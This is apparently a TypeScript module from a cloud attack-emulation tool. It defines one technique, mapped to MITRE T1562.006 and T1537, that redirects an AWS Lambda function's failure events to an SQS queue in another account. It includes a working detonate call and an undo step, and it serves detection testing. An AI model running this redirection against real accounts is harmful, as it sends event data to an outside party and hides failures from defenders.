import { z } from 'zod';
import { putBackEventInvokeConfig } from '../../../put-back-event-invoke-config.ts';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({
  functionName: z.string().min(1).max(170),
  foreignQueueArn: z.string().startsWith('arn:aws:sqs:'),
});

/** The record of every failure, with what was sent in, goes to a queue elsewhere. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'exfiltration.destination-redirected',
  title: 'Redirect a function’s failures to a queue of another account',
  purpose:
    'The defence hears nothing more, and the attacker reads every event the function could not handle.',
  mitre: ['T1562.006', 'T1537'],
  sources: [
    {
      title: 'Impair Defenses: Indicator Blocking, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1562/006/',
    },
    {
      title: 'PutFunctionEventInvokeConfig, AWS Lambda API Reference',
      url: 'https://docs.aws.amazon.com/lambda/latest/api/API_PutFunctionEventInvokeConfig.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { function: true, queue: true, foreignQueue: true },
  needs: ['lambda:PutFunctionEventInvokeConfig'],
  leaves: [
    { service: 'lambda.amazonaws.com', name: 'PutFunctionEventInvokeConfig', outcome: 'succeeds' },
  ],
  repeatable: true,
  async detonate({ inputs: { functionName, foreignQueueArn }, aws, say }) {
    say(`Redirect the failures of ${functionName} to ${foreignQueueArn}`);
    await aws.lambda().putFunctionEventInvokeConfig({
      FunctionName: functionName,
      DestinationConfig: { OnFailure: { Destination: foreignQueueArn } },
    });
  },
  undo: putBackEventInvokeConfig(),
};
